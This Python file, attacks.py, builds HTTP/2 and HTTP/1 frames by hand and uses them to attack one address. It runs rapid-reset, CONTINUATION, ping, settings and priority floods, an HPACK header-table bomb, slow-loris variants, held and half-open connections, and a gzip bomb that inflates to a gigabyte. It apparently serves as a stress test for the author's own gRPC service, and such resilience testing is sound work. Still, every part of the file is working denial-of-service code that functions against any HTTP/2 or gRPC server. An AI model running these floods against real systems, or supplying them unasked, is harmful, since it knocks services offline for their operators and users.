"""Attacks on one address by raw sockets, in a process of their own.

    attacks.py NAME ADDRESS SECONDS SEED [MESSAGE]     one attack; prints a JSON object of what it did
    attacks.py --list

ADDRESS is host:port or unix:/path. SEED: of all that is random, drawn for each connection apart, so that timing changes nothing of it. MESSAGE: hex of a
gRPC message for the attacks that need a valid one. HTTP/2 is made here frame by frame, since a client library would not send what these send.
"""

import contextlib
import json
import random
import select
import socket
import struct
import sys
import time
import zlib

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CONNECTIONS = 8
SOURCE = "127.0.0.2"  # another host than that of the clients who suffer
PIPE_BYTES = 1 << 18


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A client that takes as much as anybody likes to send.
GREEDY = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000))
OPENING = PREFACE + frame(SETTINGS, 0, 0)


def integer(value, bits, first=0):
    """HPACK's integers."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes((*out, value))


def header(name, value, first=0x00):
    """A literal; first 0x40: it enters the table."""
    return bytes((first,)) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(path, *more):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"), (b"te", b"trailers"),
              (b"content-type", b"application/grpc"), *more]
    return b"".join(header(name, value) for name, value in fields)


HEALTH = b"/grpc.health.v1.Health/Check"
PUSH = b"/packd.v1.Ingest/Push"
FETCH = b"/packd.v1.Feed/Fetch"


def message(data, compressed=0):
    return bytes((compressed,)) + struct.pack(">I", len(data)) + data


def connect(address):
    if address.startswith("unix:"):
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(5)
        made.connect(address[len("unix:"):])
    else:
        host, port = address.rsplit(":", 1)
        made = socket.create_connection((host, int(port)), timeout=5, source_address=(SOURCE, 0))
    made.setblocking(False)
    return made


class Client:
    """One connection that keeps its sender busy: `chunk(client)` makes what comes next, from `rng` where it is random."""

    def __init__(self, address, opening, chunk, rng):
        self.address, self.opening, self.chunk, self.rng = address, opening, chunk, rng
        self.made, self.sent, self.socket = 0, 0, None

    def open(self):
        with contextlib.suppress(OSError):
            self.socket = connect(self.address)
            self.made += 1
            self.stream, self.count, self.pending = 1, 0, self.opening

    def close(self):
        if self.socket:
            self.socket.close()
        self.socket = None

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def turn(self, reads):
        """Sends what the socket takes, and takes what it gives; a connection that was closed is made again."""
        if self.socket is None:
            return self.open()
        try:
            if reads:
                with contextlib.suppress(BlockingIOError):
                    if not self.socket.recv(PIPE_BYTES):
                        return self.close()
            if not self.pending:
                self.pending = self.chunk(self)
                self.count += 1
            with contextlib.suppress(BlockingIOError):
                size = self.socket.send(self.pending)
                self.pending = self.pending[size:]
                self.sent += size
        except OSError:
            self.close()


def flood(address, seconds, chunk, seed=0, opening=OPENING, reads=True, connections=CONNECTIONS):
    clients = [Client(address, opening, chunk, random.Random(f"{seed}/{number}")) for number in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for client in clients:
            client.turn(reads)
        busy = [client.socket for client in clients if client.socket]
        select.select([], busy, [], 0.01)
    for client in clients:
        client.close()
    return {"bytes": sum(client.sent for client in clients), "connections": sum(client.made for client in clients)}


# ---- floods of frames ----

def rapid_reset(client):
    out = []
    for _ in range(50):
        stream = client.next_stream()
        out.append(frame(HEADERS, END_HEADERS, stream, request(HEALTH)) + frame(RST, 0, stream, struct.pack(">I", 8)))
    return b"".join(out)


def continuation(client):
    if client.count == 0:
        return frame(HEADERS, 0, client.next_stream(), request(HEALTH))
    return frame(CONTINUATION, 0, 1, header(b"x-%d" % client.count, b"y" * 8000) * 2)


def header_bomb(client):
    """A table entry of 4,000 bytes, and then one byte for each time that it is meant."""
    first = header(b"x", b"y" * 3900, 0x40) if client.count == 0 else b""
    return frame(HEADERS, END_HEADERS, client.next_stream(), request(HEALTH) + first + b"\xbe" * 12000)


def held_streams(client):
    return b"".join(frame(HEADERS, END_HEADERS, client.next_stream(), request(PUSH)) for _ in range(100))


def empty_data(client):
    if client.count == 0:
        return frame(HEADERS, END_HEADERS, client.next_stream(), request(PUSH))
    return frame(DATA, 0, 1) * 2000


def random_frame(client):
    rng = client.rng
    return frame(client.count % 11, rng.randrange(256), rng.randrange(8), rng.randbytes(rng.randrange(64)))


FLOODS = {
    "rapid reset": (rapid_reset, {}),
    "rapid reset, unread": (rapid_reset, {"reads": False}),
    "ping": (lambda client: frame(PING, 0, 0, bytes(8)) * 1000, {}),
    "ping, unread": (lambda client: frame(PING, 0, 0, bytes(8)) * 1000, {"reads": False}),
    "settings": (lambda client: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, client.count % 1000)) * 500, {}),
    "settings, unread": (lambda client: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, client.count % 1000)) * 500, {"reads": False}),
    "window update": (lambda client: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000, {}),
    "priority": (lambda client: frame(PRIORITY, 0, 2 * client.count + 1, bytes(5)) * 1000, {}),
    "continuation": (continuation, {}),
    "header bomb": (header_bomb, {}),
    "streams held": (held_streams, {}),
    "empty data": (empty_data, {}),
    "oversized frames": (lambda client: b"\xff\xff\xff" + bytes((client.count % 11, 0)) + struct.pack(">I", 1) + client.rng.randbytes(1 << 14), {}),
    "random bytes": (lambda client: client.rng.randbytes(4096), {"opening": b""}),
    "random frames": (random_frame, {}),
    "TLS hello": (lambda client: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + client.rng.randbytes(500), {"opening": b""}),
    "HTTP/1": (lambda client: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100, {"opening": b""}),
    "HTTP/2": (rapid_reset, {}),
    "pipelined, unread": (lambda client: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 100, {"opening": b"", "reads": False, "connections": 20}),
    "huge header": (lambda client: b"X-%d: " % client.count + b"y" * 60000 + b"\r\n", {"opening": b"GET /livez HTTP/1.1\r\nHost: x\r\n"}),
    "huge path": (lambda client: b"y" * 60000, {"opening": b"GET /"}),
    "chunked lies": (lambda client: b"fffffffffffffff\r\n" + b"y" * 60000,
                     {"opening": b"POST /metrics HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"}),
    "endless body": (lambda client: b"y" * 60000, {"opening": b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n"}),
}


# ---- others ----

def resets(address, seconds):
    """Connects, and resets: half of the connections say something first."""
    made, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            one = connect(address)
            if made % 2:
                one.send(OPENING + frame(HEADERS, END_HEADERS, 1, request(HEALTH)))
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.close()
            made += 1
    return {"connections": made}


def truncated(address, seconds, seed, data):
    """A session that ends anywhere."""
    rng, made, end = random.Random(seed), 0, time.monotonic() + seconds
    whole = OPENING + frame(HEADERS, END_HEADERS, 1, request(PUSH)) + frame(DATA, 0, 1, message(data)) * 3
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            one = connect(address)
            one.send(whole[:rng.randrange(1, len(whole))])
            one.close()
            made += 1
    return {"connections": made}


def held(address, seconds, says, connections=300):
    """Many connections that say little, or nothing more."""
    sockets, made, end = [], 0, time.monotonic() + seconds
    while time.monotonic() < end:
        if len(sockets) < connections:
            with contextlib.suppress(OSError):
                sockets.append(connect(address))
                made += 1
                sockets[-1].send(says)
        else:
            time.sleep(0.01)
    for one in sockets:
        one.close()
    return {"connections": made}


def slow(address, seconds, says, connections=100):
    """A byte at a time on each of many connections."""
    places, made, end = {}, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        while len(places) < connections and time.monotonic() < end:
            with contextlib.suppress(OSError):
                places[connect(address)] = 0
                made += 1
        for one in list(places):
            at = places[one] % len(says)
            try:
                places[one] += one.send(says[at:at + 1])
            except BlockingIOError:
                continue
            except OSError:
                one.close()
                del places[one]
        time.sleep(0.02)
    for one in places:
        one.close()
    return {"connections": made}


def bomb(address, seconds, inflated=1 << 30):
    """A message of some hundred KiB that inflates to a GiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    data = b"".join(packer.compress(zeros) for _ in range(inflated >> 20)) + packer.flush()
    body = message(data, 1)
    call = request(PUSH, (b"grpc-encoding", b"gzip"))

    def chunk(client):
        stream = client.next_stream()
        return frame(HEADERS, END_HEADERS, stream, call) + b"".join(
            frame(DATA, END_STREAM if at + 16000 >= len(body) else 0, stream, body[at:at + 16000]) for at in range(0, len(body), 16000))

    return {**flood(address, seconds, chunk, connections=4), "a message": len(body)}


def never_read(address, seconds, _seed, data):
    """Calls whose answers nobody takes: twenty fetches a connection, with all the credit there is."""
    def chunk(client):
        if client.count > 0:
            return frame(PING, 1, 0, bytes(8))
        streams = [client.next_stream() for _ in range(20)]
        return b"".join(frame(HEADERS, END_HEADERS, stream, request(FETCH)) + frame(DATA, 0, stream, message(data)) for stream in streams)
    return flood(address, seconds, chunk, opening=GREEDY, reads=False)


SESSION = OPENING + frame(HEADERS, END_HEADERS, 1, request(HEALTH)) + frame(DATA, END_STREAM, 1, message(b""))
OTHERS = {
    "connects and resets": lambda address, seconds, _seed, _data: resets(address, seconds),
    "half-open": lambda address, seconds, _seed, _data: held(address, seconds, OPENING[:20]),
    "silent": lambda address, seconds, _seed, _data: held(address, seconds, b""),
    "open and idle": lambda address, seconds, _seed, _data: held(address, seconds, OPENING),
    "slow-loris": lambda address, seconds, _seed, _data: slow(address, seconds, SESSION),
    "slow-loris HTTP": lambda address, seconds, _seed, _data: slow(address, seconds, b"GET /livez HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 1000),
    "truncated": truncated,
    "compressed bomb": lambda address, seconds, _seed, _data: bomb(address, seconds),
    "streams never read": never_read,
}


def attack(name, address, seconds, seed, data=b""):
    """Runs one; what it did, as a dict."""
    if name in FLOODS:
        chunk, more = FLOODS[name]
        return flood(address, seconds, chunk, seed, **more)
    return OTHERS[name](address, seconds, seed, data)


if __name__ == "__main__":
    if sys.argv[1:] == ["--list"]:
        print("\n".join((*FLOODS, *OTHERS)))
    else:
        print(json.dumps(attack(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4]), bytes.fromhex("".join(sys.argv[5:])))))
